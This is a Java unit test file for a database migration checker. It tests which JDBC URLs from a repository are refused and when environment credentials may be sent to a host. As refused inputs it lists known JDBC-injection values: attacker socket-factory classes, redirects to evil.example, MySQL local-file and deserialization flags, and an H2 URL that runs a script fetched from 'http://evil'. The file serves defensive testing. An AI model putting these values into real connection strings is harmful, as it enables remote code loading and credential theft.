package dev.migrationguard.database;

import dev.migrationguard.database.RepositoryUrl.Endpoint;
import dev.migrationguard.model.CannotJudge;
import dev.migrationguard.settings.DeployedFrom;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** What a URL written in the repository may do: which hosts it reaches, which parameters it may carry. */
class RepositoryUrlTest {
    static final String ORIGIN = "deployed.from in .migration-guard.yml:3";

    private static String refusal(String url) {
        return assertThrows(CannotJudge.class, () -> RepositoryUrl.vet(url, ORIGIN), url).getMessage();
    }

    @Test
    void readsEveryHostTheDriverMayConnectTo() {
        assertEquals(new RepositoryUrl.Vetted(List.of(new Endpoint("db.internal", 5432)), false),
                RepositoryUrl.vet("jdbc:postgresql://db.internal/app", ORIGIN));
        assertEquals(List.of(new Endpoint("a.example", 5433), new Endpoint("10.0.0.5", 5432),
                        new Endpoint("::1", 6000)),
                RepositoryUrl.vet("jdbc:postgresql://A.example:5433,10.0.0.5,[::1]:6000/app?targetServerType=primary",
                        ORIGIN).endpoints());
        assertEquals(List.of(new Endpoint("db", 3306)), RepositoryUrl.vet("jdbc:mysql://db/app", ORIGIN).endpoints());
        assertEquals(List.of(new Endpoint("db", 3307)), RepositoryUrl.vet("jdbc:mariadb://db:3307", ORIGIN).endpoints());
    }

    @Test
    void aPasswordOfItsOwnIsANonEmptyPasswordParameter() {
        assertTrue(RepositoryUrl.vet("jdbc:postgresql://db/app?user=ro&password=x", ORIGIN).ownPassword());
        assertFalse(RepositoryUrl.vet("jdbc:postgresql://db/app?user=ro", ORIGIN).ownPassword());
        assertFalse(RepositoryUrl.vet("jdbc:postgresql://db/app?password=", ORIGIN).ownPassword());
        assertFalse(RepositoryUrl.vet("jdbc:postgresql://db/app?password", ORIGIN).ownPassword());
    }

    @Test
    void parametersThatLoadCodeTouchFilesRedirectOrFetchCredentialsAreRefused() {
        for (String p : List.of("socketFactory=org.example.Evil&socketFactoryArg=x", "sslfactory=org.example.Evil",
                "sslhostnameverifier=org.example.Trusting", "authenticationPluginClassName=org.example.Plugin",
                "loggerFile=/tmp/log", "loggerLevel=TRACE", "host=evil.example", "port=6543", "PGHOST=evil.example",
                "dbname=x", "service=prod", "localSocketAddress=10.0.0.1", "sslcert=/etc/x", "sslkey=/etc/x",
                "sslpasswordcallback=org.example.C", "jaasApplicationName=x", "options=-c%20role=admin",
                "connectExecutor=org.example.E", "PASSWORD=x", "classLoaderStrategy=THREAD")) {
            String name = p.substring(0, p.indexOf('='));
            String message = refusal("jdbc:postgresql://db.internal:5432/app?sslmode=require&" + p);
            assertTrue(message.startsWith(ORIGIN + " names jdbc:postgresql://db.internal:5432/app, which the repository "
                    + "chose: the parameter " + name + " is not allowed in a URL from the repository (allowed: "
                    + "ApplicationName, connectTimeout, currentSchema, loadBalanceHosts, loginTimeout, password, "
                    + "socketTimeout, ssl, sslmode, targetServerType, tcpKeepAlive, user); a URL that needs it must come "
                    + "from --deployed-from or MIGRATION_GUARD_DEPLOYED_FROM"), message);
        }
        for (String p : List.of("allowLoadLocalInfile=true", "allowUrlInLocalInfile=true", "autoDeserialize=true",
                "queryInterceptors=x", "allowPublicKeyRetrieval=true", "localSocket=/tmp/s")) {
            assertTrue(refusal("jdbc:mysql://db/app?" + p).contains("the parameter " + p.substring(0, p.indexOf('='))
                    + " is not allowed"), p);
            assertTrue(refusal("jdbc:mariadb://db/app?" + p).contains("is not allowed"), p);
        }
        // MySQL's driver decodes names: a name that is not plain could be decoded into a forbidden one
        assertTrue(refusal("jdbc:mysql://db/app?%73ocketFactory=x").contains("'%73ocketFactory' is not a plain "
                + "parameter name"));
    }

    @Test
    void urlFormsThatChooseHostsOtherwiseOrOtherDriversAreRefused() {
        for (String url : List.of("jdbc:postgresql:app", "jdbc:postgresql:///app", "jdbc:mysql:loadbalance://a,b/app",
                "jdbc:mysql+srv://_mysql._tcp.example/app", "jdbc:mysql://address=(host=a)(port=1)/app",
                "jdbc:mysql://(host=a,socketFactory=x)/app", "jdbc:mariadb:replication://a,b/app",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:sqlserver://db;serverName=evil",
                "jdbc:oracle:thin:@db:1521/app", "jdbc:postgresql://db:99999/app", "jdbc:postgresql://db:/app",
                "jdbc:postgresql://,db/app", "jdbc:postgresql://db%2eevil/app")) {
            String message = refusal(url);
            assertTrue(message.startsWith(ORIGIN + " names "), message);
            assertTrue(message.contains("which the repository chose: "), message);
        }
        assertTrue(refusal("jdbc:mysql://root:S3cret@db/app").endsWith("write the user and password as parameters "
                + "(?user=...&password=...), not before the host"));
        assertFalse(refusal("jdbc:mysql://root:S3cret@db/app").contains("S3cret"));
    }

    @Test
    void theAllowListNamesHostsOrHostsWithAPort() {
        List<Endpoint> allowed = RepositoryUrl.allowList(" db.internal, 10.0.0.5:5432 [::1]:5432 fe80::1", "V");
        assertTrue(RepositoryUrl.allows(allowed, new Endpoint("DB.internal", 1234)));
        assertTrue(RepositoryUrl.allows(allowed, new Endpoint("10.0.0.5", 5432)));
        assertFalse(RepositoryUrl.allows(allowed, new Endpoint("10.0.0.5", 5433)));
        assertTrue(RepositoryUrl.allows(allowed, new Endpoint("[::1]", 5432)));
        assertTrue(RepositoryUrl.allows(allowed, new Endpoint("fe80::1", 5432)));
        // names are compared as written: no DNS, so neither a subdomain nor an address of the name is allowed
        assertFalse(RepositoryUrl.allows(allowed, new Endpoint("evil.db.internal", 5432)));
        assertFalse(RepositoryUrl.allows(allowed, new Endpoint("db.internal.evil.example", 5432)));
        assertEquals(List.of(), RepositoryUrl.allowList(null, "V"));
        var bad = assertThrows(CannotJudge.class, () -> RepositoryUrl.allowList("db:x", "MIGRATION_GUARD_DB_HOSTS"));
        assertEquals("MIGRATION_GUARD_DB_HOSTS holds 'db:x', which is not a host or host:port (write "
                + "MIGRATION_GUARD_DB_HOSTS=db.internal,10.0.0.5:5432)", bad.getMessage());
    }

    @Test
    void environmentCredentialsGoOnlyToAUrlTheUserChoseOrToAllowedHosts() {
        Map<String, String> env = Map.of("PGUSER", "ci", "PGPASSWORD", "Env-S3cret");
        String url = "jdbc:postgresql://db.internal:5432/app";
        Database.Target trusted = Database.target(new DeployedFrom(url, "--deployed-from", false), env);
        assertEquals("Env-S3cret", trusted.properties().getProperty("password"));
        assertNull(trusted.reachable());

        var repository = new DeployedFrom(url, ORIGIN, true);
        var refused = assertThrows(CannotJudge.class, () -> Database.target(repository, env));
        assertEquals(ORIGIN + " names jdbc:postgresql://db.internal:5432/app, which the repository chose, without a "
                + "password of its own: it would get the credentials of this environment, and a repository decides what "
                + "to check, never where credentials go. To trust db.internal:5432 with them, set "
                + "MIGRATION_GUARD_DB_HOSTS=db.internal:5432; or give the URL with --deployed-from or "
                + "MIGRATION_GUARD_DEPLOYED_FROM", refused.getMessage());

        var allowedEnv = new java.util.HashMap<>(env);
        allowedEnv.put("MIGRATION_GUARD_DB_HOSTS", "db.internal");
        Database.Target allowed = Database.target(repository, allowedEnv);
        assertEquals("ci", allowed.properties().getProperty("user"));
        assertEquals("Env-S3cret", allowed.properties().getProperty("password"));
        assertEquals(List.of(new Endpoint("db.internal", 5432)), allowed.reachable());

        // its own credentials: nothing of the environment's goes with them, but its password is still masked
        var own = new DeployedFrom(url + "?user=ro&password=Repo-pw", ORIGIN, true);
        Database.Target ownTarget = Database.target(own, env);
        assertNull(ownTarget.properties().getProperty("user"));
        assertNull(ownTarget.properties().getProperty("password"));
        assertTrue(ownTarget.secrets().containsAll(List.of("Repo-pw", "Env-S3cret")), ownTarget.secrets()::toString);
    }

    @Test
    void everyConnectionHasTimeoutsAndMysqlServersGetNoLocalFile() {
        var pg = Database.target(new DeployedFrom("jdbc:postgresql://db/app", "--deployed-from", false), Map.of());
        for (String t : List.of("connectTimeout", "loginTimeout", "socketTimeout")) {
            assertEquals("15", pg.properties().getProperty(t), t);
        }
        var mysql = Database.target(new DeployedFrom("jdbc:mysql://db/app", "--deployed-from", false), Map.of());
        assertEquals("15000", mysql.properties().getProperty("connectTimeout"));
        assertEquals("15000", mysql.properties().getProperty("socketTimeout"));
        for (String p : List.of("allowLoadLocalInfile", "allowUrlInLocalInfile", "allowLocalInfile", "autoDeserialize")) {
            assertEquals("false", mysql.properties().getProperty(p), p);
        }
    }
}
